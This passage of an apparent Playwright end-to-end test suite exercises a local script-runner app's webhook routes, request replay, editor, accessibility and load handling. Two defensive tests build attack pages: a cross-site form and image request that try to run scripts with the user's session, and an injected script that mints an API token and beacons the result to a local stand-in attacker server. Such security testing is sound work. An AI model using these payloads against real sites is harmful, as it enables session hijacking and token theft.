  const cmd = JSON.stringify({ name: "discord" });
  res = await fetch(routeUrl, { method: "POST", headers: signed(cmd), body: cmd });
  assert.deepEqual(await res.json(), { greeting: "hello discord" });
});

test("a Slack route answers a signed slash command within Slack's 3 seconds", async () => {
  const secret = "e2e-signing-secret-0123456789";
  await page.getByRole("button", { name: "Add a route" }).click();
  await page.locator("#route-auth").selectOption("slack");
  await page.locator("#route-secret").fill(secret);
  await page.getByRole("button", { name: "Create route" }).click();
  const url = `${base}/api/r/slack/${scriptName}`;
  await page.getByTestId("route-url").filter({ hasText: url }).waitFor();
  const body = "command=%2Fhello&name=slack&user_name=ann";
  const ts = String(Math.floor(Date.now() / 1000));
  const sig = "v0=" + crypto.createHmac("sha256", secret).update(`v0:${ts}:${body}`).digest("hex");
  const started = Date.now();
  const res = await fetch(url, { method: "POST", body,
    headers: { "Content-Type": "application/x-www-form-urlencoded", "X-Slack-Request-Timestamp": ts, "X-Slack-Signature": sig } });
  const took = Date.now() - started;
  assert.equal(res.status, 200);
  assert.deepEqual(await res.json(), { greeting: "hello slack" });
  assert.ok(took < 3000, `answered in ${took} ms`);
  console.log(`slash command answered in ${took} ms`);
});

test("the Requests page shows every call live, why one was refused, and replays one", async () => {
  await page.goto(`${base}/#/requests`);
  await page.getByTestId("request-row").first().waitFor();
  // A refused call arrives while the page is open (rows are pushed by the
  // server; earlier calls may still be arriving too).
  const refused = page.getByTestId("request-row").filter({ hasText: "missing X-Slack-Request-Timestamp" });
  assert.equal(await refused.count(), 0);
  await fetch(`${base}/api/r/slack/${scriptName}`, { method: "POST", body: "name=forged", headers: { "Content-Type": "application/x-www-form-urlencoded" } });
  await refused.first().waitFor({ timeout: 10000 });
  assert.match(await refused.first().textContent(), /401/);
  await shot("20-requests");

  // Replay the signed slash command: a new run with the same arguments.
  await page.getByTestId("request-row").filter({ hasText: "slack signature verified" }).first().click();
  await page.getByTestId("request-form").filter({ hasText: "slack" }).waitFor(); // a form, shown as its fields
  assert.ok(!(await page.getByTestId("request-headers").textContent()).includes(webhookToken));
  assert.match(await page.getByTestId("request-curl").textContent(), /--data-binary 'command=%2Fhello&name=slack&user_name=ann'/);
  await page.getByRole("button", { name: "Replay" }).click();
  const result = page.getByTestId("replay-result");
  await result.waitFor({ timeout: 15000 });
  assert.match(await result.textContent(), /answered 200/);
  assert.match(await result.textContent(), /hello slack/);
  await shot("21-request-replayed");
  await result.getByRole("link", { name: "Open the new run" }).click();
  await page.getByTestId("detail-result").waitFor();
  assert.deepEqual(JSON.parse(await page.getByTestId("detail-result").textContent()), { greeting: "hello slack" });
  await page.getByTestId("run-request").filter({ hasText: "replay from the UI" }).waitFor();
});

test("a page on another localhost port cannot run scripts through the logged-in browser", async () => {
  const http = await import("node:http");
  const asyncUrl = syncUrl.replace("/run_wait_result/", "/run/");
  const attack = `<!doctype html><body>
<form id="f" method="POST" action="${asyncUrl}" enctype="text/plain"><input name='{"name":"attack","x":"' value='"}'></form>
<img src="${syncUrl}?include_query=mark&mark=img">
<script>setTimeout(() => document.getElementById("f").submit(), 300)</script></body>`;
  const server = http.createServer((req, res) => { res.setHeader("Content-Type", "text/html"); res.end(attack); });
  await new Promise((ok) => server.listen(0, "127.0.0.1", ok));
  const evil = await context.newPage();
  try {
    await evil.goto(`http://127.0.0.1:${server.address().port}/`);
    await evil.waitForURL((u) => u.port !== String(server.address().port), { timeout: 5000 }); // the form went
    await evil.waitForTimeout(1000);
  } finally {
    await evil.close();
    server.close();
  }
  // The user's own page, same origin, still works with the same cookie.
  await page.goto(`${base}/#/runs`);
  const jobs = await page.evaluate(async () => {
    const r = await fetch("/api/w/local/jobs/completed/list?per_page=200");
    return r.ok ? r.json() : { status: r.status };
  });
  assert.ok(Array.isArray(jobs), `the UI's own request was refused: ${JSON.stringify(jobs)}`);
  const forged = jobs.filter((j) => j.created_by === "browser session" && (j.args?.name === "attack" || j.args?.mark === "img"));
  assert.equal(forged.length, 0, `another port's page ran the script as the user: ${JSON.stringify(forged)}`);
});

test("a script's HTML opened from another page cannot act as the UI: no token is minted", async () => {
  const http = await import("node:http");
  await page.goto(`${base}/#/scripts`);
  const api = (method, path, body) => page.evaluate(async ([method, path, body]) => {
    const r = await fetch(path, { method, headers: { "Content-Type": "application/json" }, body: body && JSON.stringify(body) });
    return { status: r.status, text: await r.text() };
  }, [method, path, body]);
  let r = await api("POST", "/api/w/local/scripts/create", { path: "u/e2e/html_page", language: "python3",
    content: "def main(name: str = ''):\n    return {'windmill_content_type': 'text/html', 'result': '<p>hello ' + name + '</p>'}\n" });
  assert.equal(r.status, 201, r.text);
  r = await api("POST", "/api/w/local/http_triggers/create", { path: "u/e2e/html_page", script_path: "u/e2e/html_page",
    route_path: "pages/hello", http_method: "get", authentication_method: "none" });
  assert.equal(r.status, 201, r.text);
  const tokenCount = async () => JSON.parse((await api("GET", "/api/users/tokens/list")).text).length;
  const tokensBefore = await tokenCount();

  const reports = [];
  const server = http.createServer((req, res) => {
    const u = new URL(req.url, "http://x");
    if (u.pathname === "/report") reports.push(u.searchParams.get("r"));
    res.setHeader("Content-Type", "text/html");
    res.end(attackPage);
  });
  await new Promise((ok) => server.listen(0, "127.0.0.1", ok));
  const report = `http://127.0.0.1:${server.address().port}/report`;
  // What the page injects: mint a token with the browser's session and
  // send whatever comes back to the attacker.
  const injected = `<script>
new Image().src = "${report}?r=" + encodeURIComponent("ran:" + self.origin);
fetch("/api/users/tokens/create", { method: "POST", credentials: "include", headers: { "Content-Type": "application/json" },
  body: JSON.stringify({ label: "pwned" }) })
  .then(async (x) => { new Image().src = "${report}?r=" + encodeURIComponent(x.status + ":" + await x.text()); })
  .catch((e) => { new Image().src = "${report}?r=" + encodeURIComponent("error:" + e); });
</script>`;
  const payload = encodeURIComponent(Buffer.from(JSON.stringify({ name: injected })).toString("base64"));
  const target = `${base}/api/r/pages/hello?payload=${payload}`;
  const attackPage = `<!doctype html><body><script>location.href = ${JSON.stringify(target)}</script></body>`;
  const evil = await context.newPage();
  try {
    await evil.goto(`http://127.0.0.1:${server.address().port}/`);
    await evil.waitForURL((u) => u.pathname === "/api/r/pages/hello", { timeout: 10000 });
    // The injected script runs (in a sandbox) and reports both its start
    // and its attempt.
    for (let i = 0; i < 100 && reports.length < 2; i++) await evil.waitForTimeout(100);
  } finally {
    await evil.close();
    server.close();
  }
  assert.ok(reports.some((x) => x.startsWith("ran:")), `the page's script never ran, so this test proves nothing: ${JSON.stringify(reports)}`);
  assert.ok(reports.some((x) => x === "ran:null"), `the script's page ran on millrun's origin instead of an opaque one: ${JSON.stringify(reports)}`);
  assert.ok(!reports.some((x) => /^20\d:/.test(x)), `the script's page minted a token: ${JSON.stringify(reports)}`);
  assert.equal(await tokenCount(), tokensBefore, "a token was minted");
  const audit = await api("GET", "/api/millrun/audit");
  assert.ok(!audit.text.includes("pwned"), `the audit log shows a token made by the page: ${audit.text.slice(0, 300)}`);
});

const editorText = () => page.locator(".cm-content").textContent();

test("a template shows its code at once; language and template stay in step; unsaved work is not lost silently", async () => {
  const dialogs = [];
  const onDialog = (d) => {
    dialogs.push(d.message());
    d.dismiss();
  };
  page.on("dialog", onDialog);
  try {
    await page.goto(`${base}/#/scripts/new`);
    await page.locator(".cm-content").waitFor();
    await page.locator("#tpl").selectOption("slack");
    await page.locator(".cm-content", { hasText: "Slack posts slash commands" }).waitFor({ timeout: 5000 });
    await page.locator("#tpl").selectOption("discord");
    await page.locator(".cm-content", { hasText: "Discord sends interactions" }).waitFor({ timeout: 5000 });
    assert.deepEqual(dialogs, [], "switching templates with nothing typed must not ask");
    await page.locator("#lang").selectOption("bash");
    await page.locator(".cm-content", { hasText: "saying hello to $name" }).waitFor({ timeout: 5000 });
    assert.equal(await page.locator("#tpl").inputValue(), "hello-bash", "the template follows the language");
    await shot("22-template-bash");

    // Typed text is the user's: a template asks before replacing it, and
    // leaving the page asks before dropping it.
    await page.locator(".cm-content").click();
    await page.keyboard.press("Control+End");
    await page.keyboard.type("# mine");
    await page.locator("#tpl").selectOption("hello-python");
    assert.match(dialogs.at(-1) ?? "", /Replace your text/);
    assert.match(await editorText(), /# mine/);
    assert.equal(await page.locator("#tpl").inputValue(), "hello-bash");
    assert.equal(await page.locator("#lang").inputValue(), "bash");
    await page.getByRole("link", { name: "Runs" }).click();
    await page.waitForTimeout(300);
    assert.match(dialogs.at(-1) ?? "", /Leave without saving/);
    assert.match(new URL(page.url()).hash, /^#\/scripts\/new/, "dismissing the question stays on the script");
    assert.match(await editorText(), /# mine/);
  } finally {
    page.off("dialog", onDialog);
  }
  page.once("dialog", (d) => d.accept());
  await page.getByRole("link", { name: "Runs" }).click();
  await page.getByRole("heading", { name: "Runs" }).waitFor();
});

test("Tab leaves the code editor after Esc; the editor is named and shows focus", async () => {
  await page.goto(syncUrl.replace(/\/api\/w\/local\/jobs\/run_wait_result\/p\//, "/#/scripts/"));
  const code = page.getByRole("textbox", { name: "Script code" });
  await code.click();
  const ring = await page.evaluate(() => getComputedStyle(document.querySelector(".cm-editor.cm-focused")).outlineWidth);
  assert.equal(ring, "2px", "the focused editor shows a focus ring");
  assert.match(await page.getByTestId("editor-tab-hint").first().textContent(), /Esc, then Tab/);
  await page.keyboard.press("Tab");
  assert.ok(await page.evaluate(() => document.activeElement.closest(".cm-editor") !== null), "Tab indents inside the editor");
  await page.keyboard.press("Escape");
  await page.keyboard.press("Tab");
  const focused = await page.evaluate(() => ({ inEditor: document.activeElement.closest(".cm-editor") !== null, tag: document.activeElement.tagName }));
  assert.equal(focused.inEditor, false, `Esc then Tab must leave the editor (focus on ${focused.tag})`);
  // Copy buttons say what they copy.
  await page.getByRole("button", { name: "Copy sync URL by path (latest)" }).waitFor();
  // The Tab typed into the editor is an unsaved edit: leaving asks.
  let asked = "";
  page.once("dialog", (d) => {
    asked = d.message();
    d.accept();
  });
  await page.getByRole("link", { name: "Runs" }).click();
  await page.getByRole("heading", { name: "Runs" }).waitFor();
  assert.match(asked, /Leave without saving/);
});

test("the Runs page loads ten times while jobs stream in, without an error", async () => {
  const asyncUrl = syncUrl.replace("/run_wait_result/", "/run/");
  let sending = true;
  const sender = (async () => {
    while (sending) {
      await fetch(asyncUrl, { method: "POST", headers: { "Content-Type": "application/json", Authorization: `Bearer ${webhookToken}` }, body: "{}" });
      await new Promise((r) => setTimeout(r, 40));
    }
  })();
  const before = pageErrors.length;
  try {
    for (let i = 0; i < 10; i++) {
      if (i === 0) await page.goto(`${base}/#/runs`);
      else await page.reload();
      await page.getByTestId("run-row").first().waitFor();
      await page.waitForTimeout(150);
      const alerts = await page.getByRole("alert").allTextContents();
      assert.deepEqual(alerts, [], `load ${i + 1} of Runs showed an error`);
    }
  } finally {
    sending = false;
    await sender;
  }
  assert.deepEqual(pageErrors.slice(before), [], "JavaScript errors while Runs loaded");
});

// Typing latency: from a key's event time to the end of the frame that
// follows its handlers (what the user waits for to see the letter).
async function typeAndTime(locator, keys) {
  await locator.click();
  await page.evaluate(() => {
    window.__latencies = [];
    // Long tasks tell the page's own work from a machine too busy to run it.
    window.__long = [];
    window.__longObserver = new PerformanceObserver((l) => window.__long.push(...l.getEntries().map((e) => e.duration)));
    window.__longObserver.observe({ type: "longtask" });
    window.__onKey = (e) => {
      const t0 = e.timeStamp;
      requestAnimationFrame(() => setTimeout(() => window.__latencies.push(performance.now() - t0)));
    };
    addEventListener("keydown", window.__onKey, { capture: true });
  });
  for (const key of keys) {
    await page.keyboard.press(key);
    await page.waitForTimeout(120);
  }
  await page.waitForTimeout(300);
  return page.evaluate(() => {
    removeEventListener("keydown", window.__onKey, { capture: true });
    window.__longObserver.disconnect();
    return { latencies: window.__latencies, long: window.__long };
  });
}

const percentile = (xs, p) => [...xs].sort((a, b) => a - b)[Math.min(xs.length - 1, Math.floor((p / 100) * xs.length))];

// perSecond webhook calls, spread evenly, until stopped; the tokens take
// turns (each is rate-limited on its own).
function callsAtRate(url, tokens, perSecond) {
  let sent = 0;
  let refused = 0;
  const pending = new Set();
  const started = Date.now();
  const timer = setInterval(() => {
    const due = Math.floor(((Date.now() - started) / 1000) * perSecond) - sent;
    for (let i = 0; i < due; i++) {
      sent++;
      const p = fetch(url, { method: "POST", headers: { "Content-Type": "application/json", Authorization: `Bearer ${tokens[sent % tokens.length]}` }, body: "{}" })
        .then((r) => (r.ok ? r.arrayBuffer() : (refused++, r.arrayBuffer())))
        .catch(() => refused++)
        .finally(() => pending.delete(p));
      pending.add(p);
    }
  }, 10);
  return async () => {
    clearInterval(timer);
    await Promise.all([...pending]);
    return { sent, refused, seconds: (Date.now() - started) / 1000 };
  };
}

test("Runs and Requests keep up with 200 calls a second: typing stays under 100 ms (p95), only visible rows render", async () => {
  const user = (await page.evaluate(async () => (await (await fetch("/api/millrun/whoami")).json()).os_user));
  const target = `u/${user}/load_e2e`;
  const made = await page.evaluate(async (p) => {
    const s = await fetch("/api/w/local/scripts/create", { method: "POST", headers: { "Content-Type": "application/json" },
      body: JSON.stringify({ path: p, language: "bash", content: "echo ok\n" }) });
    const tokens = [];
    for (let i = 0; i < 5; i++) {
      const t = await fetch("/api/users/tokens/create", { method: "POST", headers: { "Content-Type": "application/json" }, body: JSON.stringify({ label: `load e2e ${i}` }) });
      tokens.push((await t.text()).trim());
    }
    return { script: s.status, tokens };
  }, target);
  assert.equal(made.script, 201);
  const url = `${base}/api/w/local/jobs/run/p/${target}`;
  const figures = {};
  for (const [name, hash, box] of [
    ["Runs", "#/runs", () => page.getByRole("textbox", { name: "Filter by path" })],
    ["Requests", "#/requests", () => page.getByRole("textbox", { name: "Filter by URL or route" })],
  ]) {
    await page.goto(`${base}/${hash}`);
    await box().waitFor();
    const stop = callsAtRate(url, made.tokens, 200);
    await page.waitForTimeout(1500); // the load is on before the first key
    let latencies, long;
    let kept = null;
    try {
      ({ latencies, long } = await typeAndTime(box(), [..."load_e2e", ...Array(8).fill("Backspace"), ..."load_e2e", ...Array(8).fill("Backspace"), ..."load_e2e"]));
      // A reader scrolled down the list keeps their place while rows arrive on top.
      const rowAt = () => page.evaluate(() => document.elementFromPoint(400, 300)?.closest("tr")?.querySelector("a")?.getAttribute("href"));
      await page.evaluate(() => window.scrollTo(0, 1500));
      await page.waitForTimeout(300);
      const before = await rowAt();
      await page.waitForTimeout(1000);
      kept = { before, after: await rowAt() };
    } finally {
      figures[name] = { calls: await stop() };
    }
    const p95 = percentile(latencies, 95);
    figures[name] = { ...figures[name], keys: latencies.length, p50: Math.round(percentile(latencies, 50)), p95: Math.round(p95), max: Math.round(Math.max(...latencies)) };
    console.log(`${name}: typing while ${figures[name].calls.sent} calls arrived in ${figures[name].calls.seconds.toFixed(1)} s` +
      ` (${figures[name].calls.refused} refused): p50 ${figures[name].p50} ms, p95 ${figures[name].p95} ms, max ${figures[name].max} ms over ${latencies.length} keys;` +
      ` the page's long tasks: ${long.length}, longest ${Math.round(Math.max(0, ...long))} ms`);
    await page.screenshot({ path: `${shots}/45-${name.toLowerCase()}-under-load.png` }); // the window: the page is thousands of rows tall
    const rows = await page.locator(`[data-testid=${name === "Runs" ? "run-row" : "request-row"}]`).count();
    assert.ok(rows > 0 && rows <= 80, `${name}: ${rows} rows in the page; only the visible ones should be`);
    assert.equal(latencies.length, 40, `${name}: every key was seen`);
    assert.ok(kept.before && kept.before === kept.after, `${name}: the row in front of a scrolled reader moved: ${JSON.stringify(kept)}`);
    assert.ok(p95 < 100, `${name}: typing p95 ${Math.round(p95)} ms under load (want < 100 ms)`);
    if (name === "Runs") await page.getByRole("button", { name: "Clear filters" }).first().click(); // kept otherwise
  }
  await page.goto(`${base}/#/scripts`); // the filters typed here are not the next test's
  // The queue drains before the journeys that follow (their runs would wait behind it).
  const drained = Date.now();
  await page.waitForFunction(async () => (await (await fetch("/api/w/local/jobs/queue/count")).json()).database_length === 0, null, { timeout: 90000, polling: 500 });
  console.log(`the queue drained ${((Date.now() - drained) / 1000).toFixed(1)} s after the load stopped`);
});

test("replaying a refused request says why it was refused and asks before running it", async () => {
  await page.goto(`${base}/#/requests`);
  await page.getByTestId("request-row").first().waitFor();
  // A request refused on its headers alone is never read, so nothing of
  // it could be replayed; this one is well formed, its signature forged:
  // its body was read to check it, and is kept.
  await fetch(`${base}/api/r/slack/${scriptName}`, { method: "POST", body: "name=forged", headers: {
    "Content-Type": "application/x-www-form-urlencoded", "X-Slack-Request-Timestamp": String(Math.floor(Date.now() / 1000)),
    "X-Slack-Signature": "v0=" + "0".repeat(64) } });
  await page.getByTestId("request-row").filter({ hasText: "signature does not match" }).first().click();
  await page.getByTestId("refused-replay-note").waitFor();
  let asked = "";
  page.once("dialog", (d) => {
    asked = d.message();
    d.dismiss();
  });
  await page.getByRole("button", { name: "Replay anyway…" }).click();
  await page.waitForTimeout(300);
  assert.match(asked, /refused: the Slack signature does not match/);
  assert.equal(await page.getByTestId("replay-result").count(), 0, "dismissed, nothing must run");
  page.once("dialog", (d) => d.accept());
  await page.getByRole("button", { name: "Replay anyway…" }).click();
  const result = page.getByTestId("replay-result");
  await result.waitFor({ timeout: 15000 });
  assert.match(await result.textContent(), /hello forged/);
  await shot("23-refused-replay");
});

test("no page raised a JavaScript error in any journey", async () => {
  assert.deepEqual(pageErrors, []);
});

test("a script saved from the Slack template offers its route first and says where to paste the URL", async () => {
  await page.goto(`${base}/#/scripts/new`);
  await page.locator(".cm-content").waitFor();
  const prefix = await page.locator("#path").inputValue();
  await page.locator("#path").fill(prefix + "slack_cmd");
  await page.locator("#tpl").selectOption("slack");
  await page.locator(".cm-content", { hasText: "Slack posts slash commands" }).waitFor();
  await page.keyboard.press("Control+s");
  await page.getByTestId("route-suggestion").waitFor();
  assert.equal(await page.locator("#route-auth").inputValue(), "slack");
  const panels = await page.locator("section.panel[aria-label]").evaluateAll((els) => els.map((e) => e.getAttribute("aria-label")));
  assert.ok(panels.indexOf("Routes") < panels.indexOf("Webhooks"), `the Routes box comes first: ${panels}`);
  await page.locator("#route-secret").fill("8f14e45fceea167a5a36dedd4bea2543");
  await page.getByRole("button", { name: "Create route" }).click();
  const paste = page.getByTestId("route-paste");
  await page.getByTestId("route-paste").filter({ hasText: "Request URL" }).waitFor();
  assert.match(await paste.textContent(), /Slash Commands → your command → Request URL/);
  assert.match(await paste.textContent(), /Slack cannot reach this computer's address: start the tunnel/);
  // The route can be tried before its URL goes into Slack.
  await page.getByRole("button", { name: "Send a signed test request" }).click();
  const tried = page.getByTestId("route-test-result");
  await tried.filter({ hasText: "the secret and the check work" }).waitFor({ timeout: 15000 });
  assert.match(await tried.textContent(), /millrun ran \/millrun-test a test from millrun: on it!/);
  // Try it starts from the script's own parameters.
  assert.match(await page.getByTestId("curl-snippet").textContent(), /\{"command":"","text":"","user_name":""\}/);
  await shot("24-slack-route-offered");
});

// Inside the viewport: what the user can see without scrolling.
const inSight = (locator) => locator.evaluate((el) => {
  const r = el.getBoundingClientRect();
  return r.height > 0 && r.top >= 0 && r.bottom <= window.innerHeight && r.left >= 0 && r.right <= window.innerWidth;
});

test("a syntax error on save is in sight beside Save and at its line; Save anyway saves a main it cannot read", async () => {
  for (const [width, height, scheme] of [[1280, 800, "light"], [900, 700, "dark"]]) {
    await page.setViewportSize({ width, height });
    await page.emulateMedia({ colorScheme: scheme });
    await page.goto(`${base}/#/scripts`);
    await page.goto(`${base}/#/scripts/new`);
    await page.locator(".cm-content").waitFor();
    const prefix = await page.locator("#path").inputValue();
    const full = `${prefix}broken_${width}`;
    await page.locator("#path").fill(full);
    await page.locator(".cm-content").click();
    await page.keyboard.press("Control+a");
    await page.keyboard.type("def main(a, b\n    return a\n");
    await page.keyboard.press("Control+s");
    const problem = page.getByTestId("syntax-error");
    await problem.waitFor();
    assert.match(await problem.textContent(), /Line 1: .*never closed.*not saved/);
    assert.ok(await inSight(problem), `${width}x${height}: the error beside Save is out of sight`);
    assert.ok(await inSight(problem.getByRole("button", { name: "Save anyway" })), `${width}x${height}: Save anyway is out of sight`);
    const atLine = page.getByTestId("syntax-error-at-line");
    await atLine.waitFor();
    assert.match(await atLine.textContent(), /never closed/);
    assert.ok(await inSight(atLine), `${width}x${height}: the error at the line is out of sight`);
    assert.equal(await page.getByTestId("sync-path-url").count(), 0, "nothing was saved");
    await shot(`25-syntax-error-${width}`);
    // The editor stays usable and the error follows the text: typing clears it.
    await problem.getByRole("button", { name: "Save anyway" }).click();
    await page.getByTestId("sync-path-url").waitFor();
    assert.match(await page.getByTestId("schema-note").textContent(), /could not read main's parameters/);
    const saved = await page.evaluate(async (p) => (await fetch(`/api/w/local/scripts/get/p/${p}`)).json(), full);
    assert.deepEqual(saved.schema.properties, {}, "saved with an empty schema");
    await shot(`25b-saved-anyway-${width}`);
  }
  await page.emulateMedia({ colorScheme: "light" });
  await page.setViewportSize({ width: 1280, height: 900 });
});

test("a failed Python run reads as its error, its traceback once, and a link to the failing line of its version", async () => {
  const user = (await page.evaluate(async () => (await (await fetch("/api/millrun/whoami")).json()).os_user));
  const target = `u/${user}/divide`;
  const hash = await page.evaluate(async (p) => (await (await fetch("/api/w/local/scripts/create", { method: "POST", headers: { "Content-Type": "application/json" },
    body: JSON.stringify({ path: p, language: "python3", content: "import json\n\ndef helper(x):\n    return 1 / x\n\ndef main(x: int = 0):\n    print('about to divide')\n    return helper(x)\n" }) })).text()).trim(), target);
  const id = await page.evaluate(async (p) => (await (await fetch(`/api/w/local/jobs/run/p/${p}`, { method: "POST", headers: { "Content-Type": "application/json" }, body: "{}" })).text()).trim(), target);
  await page.goto(`${base}/#/runs/${id}`);
  const heading = page.getByTestId("run-error");
  await heading.waitFor({ timeout: 15000 });
  assert.equal((await heading.textContent()).trim(), "ZeroDivisionError: division by zero");
  const stack = page.getByTestId("run-error-stack");
  assert.match(await stack.textContent(), /File "main\.py", line 4, in helper\n {4}return 1 \/ x/);
  assert.ok(!(await stack.textContent()).includes("\\n"), "the stack is text, not an escaped JSON string");
  const shown = await page.locator("main").innerText(); // what is on screen (the raw JSON is folded away)
  assert.equal(shown.split("Traceback (most recent call last)").length - 1, 1, "the traceback is shown once");
  await page.getByTestId("detail-logs").filter({ hasText: "about to divide" }).waitFor();
  const line = page.getByTestId("failing-line");
  assert.match(await line.textContent(), /main\.py, line 4/);
  assert.match(await page.getByTestId("failing-excerpt").textContent(), /4\s+return 1 \/ x/);
  assert.match(await page.getByTestId("run-error").locator("xpath=..").textContent(), new RegExp(`version ${hash}`));
  // The run page links to its script.
  assert.equal(await page.getByRole("link", { name: target, exact: true }).getAttribute("href"), `#/scripts/${target}`);
  await shot("31-failed-run");
  await line.getByRole("link").click();
  await page.locator(".cm-activeLine", { hasText: "return 1 / x" }).waitFor();
  await shot("32-failing-line-in-editor");
});

test("keyboard only, at 1280x800: skip to the Runs filter, find the failed run, open it and its failing line", async () => {
  await page.setViewportSize({ width: 1280, height: 800 });
  await page.goto(`${base}/#/runs`);
  await page.reload();
  await page.getByRole("heading", { name: "Runs" }).waitFor();
  const active = () => page.evaluate(() => ({ tag: document.activeElement?.tagName, label: document.activeElement?.getAttribute("aria-label") ?? "",
    text: (document.activeElement?.textContent ?? "").trim(), href: document.activeElement?.getAttribute("href") ?? "" }));
  const tabTo = async (want, max = 40) => {
    for (let i = 0; i < max; i++) {
      await page.keyboard.press("Tab");
      const a = await active();
      if (want(a)) return a;
    }
    throw new Error(`Tab never reached it; last: ${JSON.stringify(await active())}`);
  };
  await page.keyboard.press("Tab");
  assert.equal((await active()).text, "Skip to content");
  await page.keyboard.press("Enter");
  await tabTo((a) => a.label === "Filter by path", 3);
  await page.keyboard.type("divide");
  await page.getByTestId("run-row").filter({ hasText: "divide" }).first().waitFor();
  await page.waitForFunction(() => [...document.querySelectorAll("[data-testid=run-row]")].every((r) => r.textContent.includes("divide")));
  await page.waitForFunction(() => location.hash === "#/runs?path=divide");
  await shot("38-keyboard-runs-filtered");
  await tabTo((a) => a.tag === "A" && a.href.startsWith("#/runs/"));
  await page.keyboard.press("Enter");
  await page.getByTestId("run-error").waitFor();
  await tabTo((a) => a.tag === "A" && a.href.includes("?line="));
  await shot("39-keyboard-failed-run");
  await page.keyboard.press("Enter");
  await page.locator(".cm-activeLine", { hasText: "return 1 / x" }).waitFor();
  await page.getByTestId("syntax-error-at-line").filter({ hasText: "failed at this line" }).waitFor();
  await shot("39b-keyboard-failing-line");
  await page.goto(`${base}/#/runs`);
  await page.getByRole("button", { name: "Clear filters" }).first().click();
  await page.setViewportSize({ width: 1280, height: 900 });
});

test("the keyboard starts at a skip link to the content; Log out comes after the menu and asks first", async () => {
  await page.goto(`${base}/#/scripts`);
  await page.reload(); // the keyboard starts from the top of the page
  await page.getByRole("heading", { name: "Scripts" }).waitFor();
  await page.keyboard.press("Tab");
  const focused = () => page.evaluate(() => (document.activeElement?.getAttribute("aria-label") || document.activeElement?.textContent || "").trim());
  assert.equal(await focused(), "Skip to content");
  await shot("33-skip-link");
  await page.keyboard.press("Enter");
  await page.keyboard.press("Tab");
  assert.ok(await page.evaluate(() => document.activeElement?.closest("main") !== null), "after the skip link, Tab goes into the page's content");
  // From the top: the menu, then Log out, then the content.
  await page.reload();
  await page.getByRole("heading", { name: "Scripts" }).waitFor();
  const order = [];
  for (let i = 0; i < 14; i++) {
    await page.keyboard.press("Tab");
    order.push(await focused());
  }
  assert.ok(order.indexOf("Log out") > order.indexOf("Settings"), `Tab order: ${order.join(" | ")}`);
  let asked = "";
  page.once("dialog", (d) => {
    asked = d.message();
    d.dismiss();
  });
  await page.getByRole("button", { name: "Log out" }).click();
  await page.waitForTimeout(200);
  assert.match(asked, /Log out/);
  await page.getByRole("heading", { name: "Scripts" }).waitFor(); // still logged in
});

test("the GitHub template, its route and the signed test agree: a push answers with the repository; URL boxes show by path and by hash whole", async () => {
  await page.goto(`${base}/#/scripts/new`);
  await page.locator(".cm-content").waitFor();
  const prefix = await page.locator("#path").inputValue();
  await page.locator("#path").fill(prefix + "on_push");
  await page.locator("#tpl").selectOption("github");
  await page.locator(".cm-content", { hasText: "x_github_event" }).waitFor();
  assert.ok(!(await editorText()).includes("include_header"), "the template asks for no query the route's URL leaves out");
  await page.keyboard.press("Control+s");
  await page.getByTestId("route-suggestion").waitFor();
  assert.equal(await page.locator("#route-auth").inputValue(), "github");
  await page.locator("#route-secret").fill("gh-e2e-secret");
  await page.getByRole("button", { name: "Create route" }).click();
  const routeUrl = page.getByTestId("route-url").first();
  await routeUrl.waitFor();
  assert.match(await routeUrl.textContent(), /\/api\/r\/github\/on_push$/, "the URL to paste is the route's, with nothing to add");
  await page.getByRole("button", { name: "Send a signed test request" }).click();
  const tried = page.getByTestId("route-test-result");
  await tried.filter({ hasText: "the secret and the check work" }).waitFor({ timeout: 15000 });
  assert.match(await tried.textContent(), /octocat\/hello-world/);
  assert.match(await tried.textContent(), /refs\/heads\/main/);
  await shot("34-github-route-tested");
  // In a 900 px window the webhook URLs are shown whole: their ends (/p/<path>, /h/<hash>) tell them apart.
  await page.setViewportSize({ width: 900, height: 700 });
  for (const id of ["sync-path-url", "sync-hash-url"]) {
    const cut = await page.getByTestId(id).evaluate((el) => el.scrollWidth - el.clientWidth);
    assert.ok(cut <= 0, `${id} is cut by ${cut}px`);
  }
  await page.getByTestId("sync-hash-url").scrollIntoViewIfNeeded();
  await page.screenshot({ path: `${shots}/34b-url-boxes-900.png` });
  await page.setViewportSize({ width: 1280, height: 900 });
});

test("a 2-byte body sent to a mistyped webhook URL is kept: shown, replayable, in Copy as curl", async () => {
  const typo = syncUrl.replace("/run_wait_result/", "/run/").replace(/hello_e2e$/, "helo_e2e");
  const res = await fetch(typo, { method: "POST", headers: { "Content-Type": "application/json", Authorization: `Bearer ${webhookToken}` }, body: "{}" });
  assert.equal(res.status, 404);
  await page.goto(`${base}/#/requests`);
  await page.getByRole("textbox", { name: "Filter by URL or route" }).fill("helo_e2e");
  const row = page.getByTestId("request-row").filter({ hasText: "404" }).first();
  await row.waitFor();
  await row.click();
  await page.getByTestId("request-body").filter({ hasText: "{}" }).waitFor();
  assert.ok(!(await page.locator("main").innerText()).match(/\(empty\)|\(cut|not read/), "the body is shown as sent");
  assert.match(await page.getByTestId("request-curl").textContent(), /--data-binary '\{\}'/);
  const replay = page.getByRole("button", { name: "Replay" });
  assert.equal(await replay.isEnabled(), true);
  await shot("35-request-404-body");
  await replay.click();
  await page.getByTestId("replay-result").filter({ hasText: "answered 404" }).waitFor({ timeout: 10000 });
});

test("smaller ones: where to get an ngrok authtoken, disabled buttons in dark mode, start at login applied when ticked, the desktop's address hint, Try it with the last run's arguments", async () => {
  // Where to get an authtoken: a link, and it is free.
  await page.goto(`${base}/#/tunnel`);
  const get = page.getByTestId("authtoken-help").getByRole("link");
  assert.equal(await get.getAttribute("href"), "https://dashboard.ngrok.com/get-started/your-authtoken");
  assert.match(await page.getByTestId("authtoken-help").textContent(), /free/);
  // A disabled button looks disabled in dark mode too.
  await page.emulateMedia({ colorScheme: "dark" });
  const look = (loc) => loc.evaluate((b) => { const c = getComputedStyle(b); return { bg: c.backgroundColor, color: c.color, cursor: c.cursor }; });
  const start = page.getByRole("button", { name: "Start", exact: true });
  assert.equal(await start.isDisabled(), true);
  const disabled = await look(start);
  const enabled = await look(page.getByRole("button", { name: "Save", exact: true }));
  assert.notEqual(disabled.bg, enabled.bg, `dark mode: a disabled primary button looks like an enabled one (${JSON.stringify(disabled)})`);
  assert.equal(disabled.cursor, "not-allowed");
  await shot("36-tunnel-dark-disabled");
  await page.emulateMedia({ colorScheme: "light" });

  // Start at login is applied when ticked, not when Save at the foot is
  // pressed (answered here: the test writes no autostart entry).
  const current = await page.evaluate(async () => (await fetch("/api/millrun/settings")).json());
  const saves = [];
  await page.route("**/api/millrun/settings", async (route) => {
